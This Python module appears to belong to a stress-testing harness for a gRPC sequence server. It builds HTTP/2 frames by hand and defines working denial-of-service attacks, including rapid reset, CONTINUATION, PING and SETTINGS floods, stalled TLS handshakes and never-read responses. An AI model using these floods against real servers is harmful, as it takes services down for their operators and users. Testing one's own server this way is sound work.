"""What a hostile connection sends: something at first, and more for as long as it is let.

HTTP/2 by hand (RFC 9113): no client would do this.
"""

import contextlib
import ssl
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from flooding import frames
from flooding.frames import END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame
from seqsvr.v1 import alloc_pb2 as pb

CONTINUATION, CANCEL, CHUNK = 9, 8, 200
_PATH = "/seqsvr.v1.Alloc/"
_GENEROUS = 2**31 - 1
_BEGUN = PREFACE + frames.settings()


@dataclass(frozen=True)
class Attack:
    """first: sent on each connection; more: then these, as often as `--per-s` allows, CHUNK frames
    each; reads: it takes what comes; tls: for ports with TLS, whose handshake it makes or (raw)
    spoils; few: one connection in a hundred does as much harm.
    """

    about: str
    first: bytes
    more: Callable[[], Iterator[bytes]] | None = None
    reads: bool = True
    raw: bool = False
    few: bool = False


def _block(method: str = "GetSeq") -> bytes:
    return frames.headers(_PATH + method, "localhost")


def _same(one: bytes) -> Callable[[], Iterator[bytes]]:
    def more() -> Iterator[bytes]:
        while True:
            yield one * CHUNK

    return more


def _streams(of: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """The frames of one stream after the other."""

    def more() -> Iterator[bytes]:
        number = 1
        while number < 2**31 - 2 * CHUNK:
            yield b"".join(of(number + 2 * index) for index in range(CHUNK))
            number += 2 * CHUNK

    return more


def _opened_and_reset(stream: int) -> bytes:
    reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    return frame(HEADERS, END_HEADERS, stream, _block()) + reset


def _asked_and_reset(stream: int) -> bytes:
    """With its whole request, so that work begins."""
    request = frames.message(pb.GetSeqRequest(uid=stream % 1000).SerializeToString())
    reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    asked = frame(HEADERS, END_HEADERS, stream, _block())
    return asked + frames.data(stream, request, last=True) + reset


def _route_asked(stream: int) -> bytes:
    """Five bytes that are answered with a whole routing table."""
    asked = frame(HEADERS, END_HEADERS, stream, _block("GetRoute"))
    return asked + frames.data(stream, frames.message(b""), last=True)


def _half_request(stream: int) -> bytes:
    announced = struct.pack(">BI", 0, 4 * 2**20)
    asked = frame(HEADERS, END_HEADERS, stream, _block())
    return asked + frame(frames.DATA, 0, stream, announced + bytes(11))


def _headers_without_end() -> Iterator[bytes]:
    """One header block that goes on and on, in CONTINUATION frames."""
    yield frame(HEADERS, 0, 1, _block())
    line = b"\x00\x04junk\x7e" + b"x" * 126
    chunk = frame(CONTINUATION, 0, 1, line * 100)
    while True:
        yield chunk * (CHUNK // 100)


def _generous() -> bytes:
    """Everything may be sent to us, and nothing will be read."""
    settings = struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, _GENEROUS)
    window = struct.pack(">I", _GENEROUS - frames.WINDOW)
    more = frame(frames.WINDOW_UPDATE, 0, 0, window)
    return PREFACE + frame(SETTINGS, 0, 0, settings) + more


def _hello() -> bytes:
    """The first thing that a TLS client says."""
    context = ssl.create_default_context()
    taken = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), taken, server_hostname="localhost").do_handshake()
    return taken.read()


_ONE_FLOOD_PING = frame(PING, 0, 0, b"hostile!")
_SETTING = frame(SETTINGS, 0, 0, struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 65_535))
_HALF = frame(HEADERS, END_HEADERS, 1, _block())[:-20]

ATTACKS = {
    "idle": Attack("connected, and never a word", b"", raw=True),
    "settled": Attack("a connection of HTTP/2 without a call", _BEGUN),
    "half-frame": Attack("a frame that stops in its midst", _BEGUN + _HALF),
    "half-requests": Attack("messages of 4 MiB that never come", _BEGUN, _streams(_half_request)),
    "garbage": Attack("no HTTP/2 at all", b"GET / HTTP/1.0\r\n" * 100, raw=True),
    "half-hello": Attack("half the first message of TLS", _hello()[:100], raw=True),
    "hello": Attack("the first message of TLS, and no other", _hello(), raw=True),
    "rapid-reset": Attack("calls begun and reset", _BEGUN, _streams(_opened_and_reset), few=True),
    "asked-reset": Attack("calls made and reset", _BEGUN, _streams(_asked_and_reset), few=True),
    "pings": Attack("PING after PING", _BEGUN, _same(_ONE_FLOOD_PING), reads=False, few=True),
    "settings": Attack("SETTINGS over and over", _BEGUN, _same(_SETTING), reads=False, few=True),
    "headers": Attack("headers that never end", _BEGUN, _headers_without_end, few=True),
    "deaf": Attack(
        "calls without end, and no answer is read",
        _generous(),
        _streams(_route_asked),
        reads=False,
        few=True,
    ),
}
